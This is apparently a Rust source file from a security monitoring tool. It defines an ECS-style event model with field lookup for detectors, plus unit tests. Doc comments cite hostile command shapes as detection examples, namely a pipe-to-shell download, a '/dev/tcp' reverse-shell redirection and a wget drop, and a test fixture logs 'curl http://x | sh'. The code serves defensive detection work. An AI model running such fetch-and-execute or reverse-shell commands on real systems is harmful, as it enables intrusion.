//! [`Event`]: one thing that happened, from any source, in ECS-style field names.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt;
use uuid::Uuid;

/// One observed event: a process started, a connection opened, a request arrived, a log line.
///
/// The JSON shape follows ECS: `@timestamp`, `event.{id,kind,category,action,module,dataset}`,
/// `host.name`, `process.*`, `source.*`/`destination.*` (network endpoints), `network.*`,
/// `user.*`, `url.*`, `http.*`, `user_agent.original`, `file.*`, `message`, `labels`.
/// `event.module` names the producer (for example `agent`, `sysmon`, `auditd`, `proxy`,
/// `api`) and is what the store and API call the event's *source*. `raw` keeps the original
/// record (an EVTX record as JSON, an auditd event, unknown fields of a posted document) so
/// nothing the source said is lost.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Event {
    #[serde(
        rename = "@timestamp",
        alias = "timestamp",
        with = "crate::time::flexible"
    )]
    pub timestamp: DateTime<Utc>,
    #[serde(default)]
    pub event: EventMeta,
    #[serde(default, skip_serializing_if = "Host::is_empty")]
    pub host: Host,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub process: Option<Process>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub source: Option<Endpoint>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub destination: Option<Endpoint>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub network: Option<Network>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<User>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url: Option<Url>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub http: Option<Http>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user_agent: Option<UserAgent>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub file: Option<File>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,
    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub labels: std::collections::BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Value::is_null")]
    pub raw: Value,
}

/// The `event.*` block: identity and classification.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EventMeta {
    #[serde(default = "Uuid::now_v7")]
    pub id: Uuid,
    /// ECS `event.kind`: `event`, `alert`, `metric`, `state`.
    #[serde(default = "default_kind")]
    pub kind: String,
    /// ECS `event.category`: `process`, `network`, `file`, `authentication`, `web`, ...
    #[serde(default, deserialize_with = "one_or_many")]
    pub category: Vec<String>,
    /// What happened, in the producer's words (`exec`, `connection-opened`, `logon-failed`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub action: Option<String>,
    /// The producer of the event; see [`Event`].
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub module: Option<String>,
    /// A finer name of the stream within the module (`sysmon.operational`, `auditd.execve`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub dataset: Option<String>,
    /// The producer's own numeric code (a Windows EventID, for example).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub code: Option<String>,
    /// When Watchpost received the event, if that differs from `@timestamp`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        with = "crate::time::flexible_opt"
    )]
    pub ingested: Option<DateTime<Utc>>,
}

fn default_kind() -> String {
    "event".to_string()
}

impl Default for EventMeta {
    fn default() -> Self {
        EventMeta {
            id: Uuid::now_v7(),
            kind: default_kind(),
            category: Vec::new(),
            action: None,
            module: None,
            dataset: None,
            code: None,
            ingested: None,
        }
    }
}

fn one_or_many<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Vec<String>, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum OneOrMany {
        One(String),
        Many(Vec<String>),
    }
    Ok(match Option::<OneOrMany>::deserialize(d)? {
        None => Vec::new(),
        Some(OneOrMany::One(s)) => vec![s],
        Some(OneOrMany::Many(v)) => v,
    })
}

/// `host.*`: the machine the event is about.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Host {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub ip: Vec<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub os: Option<String>,
}

impl Host {
    fn is_empty(&self) -> bool {
        self.name.is_none() && self.ip.is_empty() && self.os.is_none()
    }
}

/// `process.*`, with `parent` one level up (ancestry beyond that lives in the process tree).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Process {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pid: Option<i64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub executable: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command_line: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub args: Vec<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub working_directory: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hash: Option<Hashes>,
    /// The name the binary was shipped under when it is not the name it runs as: Sysmon's
    /// `OriginalFileName` on Windows; on Linux, the installed shell, relay or interpreter
    /// this binary is a renamed copy of.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub original_file_name: Option<String>,
    /// The effective user the process runs as (ECS `process.user`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<User>,
    /// The real user, who started it (ECS `process.real_user`); differs from `user` for a
    /// set-user-id program.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub real_user: Option<User>,
    /// Effective capabilities of a process that does not run as root (`cap_setuid`, ...):
    /// what lets it do root's work without root's uid.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub capabilities: Vec<String>,
    /// When the process started.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        with = "crate::time::flexible_opt"
    )]
    pub start: Option<DateTime<Utc>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub parent: Option<Box<Process>>,
    /// What the same process ran before this exec replaced it (ECS `process.previous`):
    /// a program that execs a shell leaves its trace here, not in `parent`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub previous: Option<Box<Process>>,
    /// Standard input, output and error at the exec: a typed pipeline (`curl … | sh`) or
    /// a redirection (`bash -i >& /dev/tcp/…`) never appears on any command line, only
    /// here.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdin: Option<Stream>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdout: Option<Stream>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stderr: Option<Stream>,
    /// The environment variables that change what runs (`LD_PRELOAD`, `PATH`,
    /// `HISTFILE`, ...), when set; other variables are not kept.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub env: BTreeMap<String, String>,
    /// The executable was deleted, or is an anonymous memory file (`memfd:`), when the
    /// process started: a program that leaves no file behind.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub executable_deleted: bool,
    /// The distribution package the executable belongs to, for a program that runs
    /// with more privilege than its user (set-user-id, file capabilities), as the
    /// package database records it unchanged.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub package: Option<String>,
    /// For a program run from a file a transfer tool wrote minutes before (or a script
    /// given to a shell): that transfer, and the `chmod` that made it executable.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub downloaded_by: Option<Downloaded>,
}

/// The transfer that wrote a program before it ran.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Downloaded {
    /// The transfer's command line (`wget http://…/a -O /tmp/a`).
    pub command_line: String,
    /// The `chmod` that made the file executable, when one was seen.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub chmod: Option<String>,
}

/// One standard stream of a process, as it was when the process started.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Stream {
    /// `pipe`, `socket`, `tty`, `file`, `null` (`/dev/null`) or `device`.
    #[serde(rename = "type")]
    pub kind: String,
    /// The file, terminal or device (`/dev/pts/3`, `/tmp/out`); a socket's family
    /// (`tcp`, `udp`, `unix`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// For a pipe, the process at its other end, when it could be named.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub peer: Option<Box<Process>>,
    /// For an internet socket, the address at its other end.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub remote: Option<Endpoint>,
}

/// File or binary hashes.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Hashes {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub sha1: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub md5: Option<String>,
}

/// `source.*` / `destination.*`: one side of a network exchange.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Endpoint {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ip: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub port: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub domain: Option<String>,
}

/// `network.*`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Network {
    /// `tcp`, `udp`, ...
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub transport: Option<String>,
    /// Application protocol: `http`, `dns`, `ssh`, ...
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub protocol: Option<String>,
    /// `inbound`, `outbound`, `internal`, ...
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub direction: Option<String>,
}

/// `user.*`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct User {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub domain: Option<String>,
}

/// `url.*`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Url {
    /// The URL as seen on the wire (path and query, or absolute).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub original: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub domain: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub query: Option<String>,
}

/// `http.*`, flattened to the fields detectors use.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Http {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_method: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub response_status_code: Option<u16>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub request_referrer: Option<String>,
}

/// `user_agent.*`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct UserAgent {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub original: Option<String>,
}

/// `file.*`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct File {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub size: Option<u64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub owner: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mode: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hash: Option<Hashes>,
}

/// Why a JSON document could not become an [`Event`].
#[derive(Debug, thiserror::Error)]
pub enum EventError {
    #[error("an event must be a JSON object, got {0}")]
    NotAnObject(&'static str),
    #[error("{0}")]
    Invalid(String),
}

/// A field's value as detectors see it: text or a number.
#[derive(Debug, Clone, PartialEq)]
pub enum FieldValue<'a> {
    Text(Cow<'a, str>),
    Int(i64),
}

impl fmt::Display for FieldValue<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FieldValue::Text(t) => f.write_str(t),
            FieldValue::Int(n) => write!(f, "{n}"),
        }
    }
}

/// Top-level keys [`Event`] types; everything else in a posted document goes to `raw`.
const KNOWN_KEYS: &[&str] = &[
    "@timestamp",
    "timestamp",
    "event",
    "host",
    "process",
    "source",
    "destination",
    "network",
    "user",
    "url",
    "http",
    "user_agent",
    "file",
    "message",
    "labels",
    "raw",
];

impl Event {
    /// A new event at `timestamp` from `module` with everything else empty.
    pub fn new(timestamp: DateTime<Utc>, module: &str) -> Event {
        Event {
            timestamp,
            event: EventMeta {
                module: Some(module.to_string()),
                ..EventMeta::default()
            },
            host: Host::default(),
            process: None,
            source: None,
            destination: None,
            network: None,
            user: None,
            url: None,
            http: None,
            user_agent: None,
            file: None,
            message: None,
            labels: Default::default(),
            raw: Value::Null,
        }
    }

    /// Reads an ECS-style JSON document. A missing `@timestamp` means "now"; top-level keys
    /// that [`Event`] does not type are kept under `raw` rather than dropped.
    pub fn from_json(value: Value) -> Result<Event, EventError> {
        let Value::Object(mut object) = value else {
            return Err(EventError::NotAnObject(json_kind(&value)));
        };
        let mut extra = Map::new();
        let unknown: Vec<String> = object
            .keys()
            .filter(|k| !KNOWN_KEYS.contains(&k.as_str()))
            .cloned()
            .collect();
        for key in unknown {
            if let Some(v) = object.remove(&key) {
                extra.insert(key, v);
            }
        }
        if !object.contains_key("@timestamp") && !object.contains_key("timestamp") {
            object.insert("@timestamp".into(), Value::String(Utc::now().to_rfc3339()));
        }
        let mut event: Event = serde_json::from_value(Value::Object(object))
            .map_err(|e| EventError::Invalid(e.to_string()))?;
        if !extra.is_empty() {
            match &mut event.raw {
                Value::Object(raw) => raw.extend(extra),
                raw @ Value::Null => *raw = Value::Object(extra),
                other => {
                    let original = other.take();
                    extra.insert("raw".into(), original);
                    *other = Value::Object(extra);
                }
            }
        }
        Ok(event)
    }

    /// The event's id (`event.id`).
    pub fn id(&self) -> Uuid {
        self.event.id
    }

    /// The producer (`event.module`), or `unknown`.
    pub fn source_name(&self) -> &str {
        self.event.module.as_deref().unwrap_or("unknown")
    }

    /// The first ECS category, if any.
    pub fn primary_category(&self) -> Option<&str> {
        self.event.category.first().map(String::as_str)
    }

    /// Reads a field by its ECS dotted name (`process.command_line`, `source.ip`, ...).
    /// Unknown names fall back to a lookup in `raw` (dotted path, then flat key), so
    /// source-specific fields such as `winlog.event_data.TargetObject` stay reachable.
    pub fn field(&self, name: &str) -> Option<FieldValue<'_>> {
        use FieldValue::{Int, Text};
        let process = self.process.as_ref();
        let parent = process.and_then(|p| p.parent.as_deref());
        match name {
            "@timestamp" => Some(Text(Cow::Owned(self.timestamp.to_rfc3339()))),
            "event.id" => Some(Text(Cow::Owned(self.event.id.to_string()))),
            "event.kind" => Some(Text(Cow::Borrowed(&self.event.kind))),
            "event.category" => self.primary_category().map(|c| Text(Cow::Borrowed(c))),
            "event.action" => text(&self.event.action),
            "event.module" => text(&self.event.module),
            "event.dataset" => text(&self.event.dataset),
            "event.code" => text(&self.event.code),
            "host.name" => text(&self.host.name),
            "message" => text(&self.message),
            "process.pid" => process.and_then(|p| p.pid).map(Int),
            "process.name" => process.and_then(|p| text(&p.name)),
            "process.executable" => process.and_then(|p| text(&p.executable)),
            "process.command_line" => process.and_then(|p| text(&p.command_line)),
            "process.working_directory" => process.and_then(|p| text(&p.working_directory)),
            "process.hash.sha256" => process
                .and_then(|p| p.hash.as_ref())
                .and_then(|h| text(&h.sha256)),
            "process.user.id" => process.and_then(|p| user_id(&p.user)),
            "process.user.name" => process.and_then(|p| user_name(&p.user)),
            "process.real_user.id" => process.and_then(|p| user_id(&p.real_user)),
            "process.real_user.name" => process.and_then(|p| user_name(&p.real_user)),
            "process.capabilities" => process
                .filter(|p| !p.capabilities.is_empty())
                .map(|p| Text(Cow::Owned(p.capabilities.join(" ")))),
            "process.parent.user.id" => parent.and_then(|p| user_id(&p.user)),
            "process.parent.real_user.id" => parent.and_then(|p| user_id(&p.real_user)),
            "process.parent.pid" => parent.and_then(|p| p.pid).map(Int),
            "process.original_file_name" => process.and_then(|p| text(&p.original_file_name)),
            "process.previous.executable" => process
                .and_then(|p| p.previous.as_deref())
                .and_then(|p| text(&p.executable)),
            "process.executable_deleted" => process
                .filter(|p| p.executable_deleted)
                .map(|_| Text(Cow::Borrowed("true"))),
            "process.package" => process.and_then(|p| text(&p.package)),
            "process.downloaded_by.command_line" => process
                .and_then(|p| p.downloaded_by.as_ref())
                .map(|d| Text(Cow::Borrowed(&d.command_line))),
            "process.downloaded_by.chmod" => process
                .and_then(|p| p.downloaded_by.as_ref())
                .and_then(|d| text(&d.chmod)),
            "process.parent.name" => parent.and_then(|p| text(&p.name)),
            "process.parent.executable" => parent.and_then(|p| text(&p.executable)),
            "process.parent.command_line" => parent.and_then(|p| text(&p.command_line)),
            "source.ip" => self.source.as_ref().and_then(|e| text(&e.ip)),
            "source.port" => self
                .source
                .as_ref()
                .and_then(|e| e.port)
                .map(|p| Int(p.into())),
            "source.domain" => self.source.as_ref().and_then(|e| text(&e.domain)),
            "destination.ip" => self.destination.as_ref().and_then(|e| text(&e.ip)),
            "destination.port" => self
                .destination
                .as_ref()
                .and_then(|e| e.port)
                .map(|p| Int(p.into())),
            "destination.domain" => self.destination.as_ref().and_then(|e| text(&e.domain)),
            "network.transport" => self.network.as_ref().and_then(|n| text(&n.transport)),
            "network.protocol" => self.network.as_ref().and_then(|n| text(&n.protocol)),
            "network.direction" => self.network.as_ref().and_then(|n| text(&n.direction)),
            "user.name" => self.user.as_ref().and_then(|u| text(&u.name)),
            "user.id" => self.user.as_ref().and_then(|u| text(&u.id)),
            "user.domain" => self.user.as_ref().and_then(|u| text(&u.domain)),
            "url.original" => self.url.as_ref().and_then(|u| text(&u.original)),
            "url.domain" => self.url.as_ref().and_then(|u| text(&u.domain)),
            "url.path" => self.url.as_ref().and_then(|u| text(&u.path)),
            "url.query" => self.url.as_ref().and_then(|u| text(&u.query)),
            "http.request.method" => self.http.as_ref().and_then(|h| text(&h.request_method)),
            "http.request.referrer" => self.http.as_ref().and_then(|h| text(&h.request_referrer)),
            "http.response.status_code" => self
                .http
                .as_ref()
                .and_then(|h| h.response_status_code)
                .map(|c| Int(c.into())),
            "user_agent.original" => self.user_agent.as_ref().and_then(|u| text(&u.original)),
            "file.path" => self.file.as_ref().and_then(|f| text(&f.path)),
            "file.name" => self.file.as_ref().and_then(|f| text(&f.name)),
            "file.hash.sha256" => self
                .file
                .as_ref()
                .and_then(|f| f.hash.as_ref())
                .and_then(|h| text(&h.sha256)),
            _ => process
                .and_then(|p| process_io_field(p, name))
                .or_else(|| self.raw_field(name)),
        }
    }

    fn raw_field(&self, name: &str) -> Option<FieldValue<'_>> {
        let mut node = &self.raw;
        for part in name.split('.') {
            node = node.get(part)?;
        }
        json_scalar(node).or_else(|| self.raw.get(name).and_then(json_scalar))
    }
}

/// `process.stdin.*`, `process.stdout.*`, `process.stderr.*`, `process.env.NAME` and
/// the parent's streams (`process.parent.stdin.type`).
fn process_io_field<'a>(process: &'a Process, name: &str) -> Option<FieldValue<'a>> {
    let (process, name) = match name.strip_prefix("process.parent.") {
        Some(rest) => (process.parent.as_deref()?, rest),
        None => (process, name.strip_prefix("process.")?),
    };
    if let Some(var) = name.strip_prefix("env.") {
        return process
            .env
            .get(var)
            .map(|v| FieldValue::Text(Cow::Borrowed(v)));
    }
    let (stream, rest) = name.split_once('.')?;
    let stream = match stream {
        "stdin" => process.stdin.as_ref(),
        "stdout" => process.stdout.as_ref(),
        "stderr" => process.stderr.as_ref(),
        _ => None,
    }?;
    match rest {
        "type" => Some(FieldValue::Text(Cow::Borrowed(&stream.kind))),
        "path" => text(&stream.path),
        "peer.name" => stream.peer.as_ref().and_then(|p| text(&p.name)),
        "peer.executable" => stream.peer.as_ref().and_then(|p| text(&p.executable)),
        "peer.command_line" => stream.peer.as_ref().and_then(|p| text(&p.command_line)),
        "peer.pid" => stream
            .peer
            .as_ref()
            .and_then(|p| p.pid)
            .map(FieldValue::Int),
        "remote.ip" => stream.remote.as_ref().and_then(|r| text(&r.ip)),
        "remote.port" => stream
            .remote
            .as_ref()
            .and_then(|r| r.port)
            .map(|p| FieldValue::Int(p.into())),
        _ => None,
    }
}

fn user_id(user: &Option<User>) -> Option<FieldValue<'_>> {
    user.as_ref().and_then(|u| text(&u.id))
}

fn user_name(user: &Option<User>) -> Option<FieldValue<'_>> {
    user.as_ref().and_then(|u| text(&u.name))
}

fn text(value: &Option<String>) -> Option<FieldValue<'_>> {
    value.as_deref().map(|s| FieldValue::Text(Cow::Borrowed(s)))
}

fn json_scalar(value: &Value) -> Option<FieldValue<'_>> {
    match value {
        Value::String(s) => Some(FieldValue::Text(Cow::Borrowed(s))),
        Value::Number(n) => Some(match n.as_i64() {
            Some(i) => FieldValue::Int(i),
            None => FieldValue::Text(Cow::Owned(n.to_string())),
        }),
        Value::Bool(b) => Some(FieldValue::Text(Cow::Borrowed(if *b {
            "true"
        } else {
            "false"
        }))),
        _ => None,
    }
}

fn json_kind(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn sample() -> Value {
        json!({
            "@timestamp": "2026-11-22T10:00:00.250Z",
            "event": {"kind": "event", "category": "process", "action": "exec", "module": "agent"},
            "host": {"name": "web-1"},
            "process": {
                "pid": 4242, "name": "curl", "command_line": "curl http://x | sh",
                "parent": {"pid": 1, "name": "sh", "executable": "/bin/sh"}
            },
            "source": {"ip": "203.0.113.9", "port": 51000},
            "user": {"name": "www-data"},
            "winlog": {"event_id": 4688, "channel": "Security"},
            "message": "exec"
        })
    }

    #[test]
    fn round_trips_through_json_and_keeps_unknown_fields() {
        let event = Event::from_json(sample()).unwrap();
        assert_eq!(event.event.category, vec!["process"]);
        assert_eq!(event.raw["winlog"]["event_id"], 4688);
        let json = serde_json::to_value(&event).unwrap();
        assert_eq!(json["@timestamp"], "2026-11-22T10:00:00.250Z");
        let again: Event = serde_json::from_value(json).unwrap();
        assert_eq!(again, event);
    }

    #[test]
    fn reads_fields_by_ecs_name_and_falls_back_to_raw() {
        let event = Event::from_json(sample()).unwrap();
        assert_eq!(event.field("process.pid"), Some(FieldValue::Int(4242)));
        assert_eq!(
            event
                .field("process.parent.executable")
                .unwrap()
                .to_string(),
            "/bin/sh"
        );
        assert_eq!(event.field("source.ip").unwrap().to_string(), "203.0.113.9");
        assert_eq!(event.field("winlog.event_id"), Some(FieldValue::Int(4688)));
        assert_eq!(event.field("destination.ip"), None);
        assert_eq!(event.source_name(), "agent");
    }

    #[test]
    fn missing_timestamp_means_now_and_bad_input_is_named() {
        let before = Utc::now();
        let event = Event::from_json(json!({"message": "hello"})).unwrap();
        assert!(event.timestamp >= before - chrono::Duration::seconds(1));
        let err = Event::from_json(json!([1, 2])).unwrap_err();
        assert!(err.to_string().contains("an array"), "{err}");
        let err = Event::from_json(json!({"@timestamp": "not a time"})).unwrap_err();
        assert!(err.to_string().contains("invalid timestamp"), "{err}");
    }
}
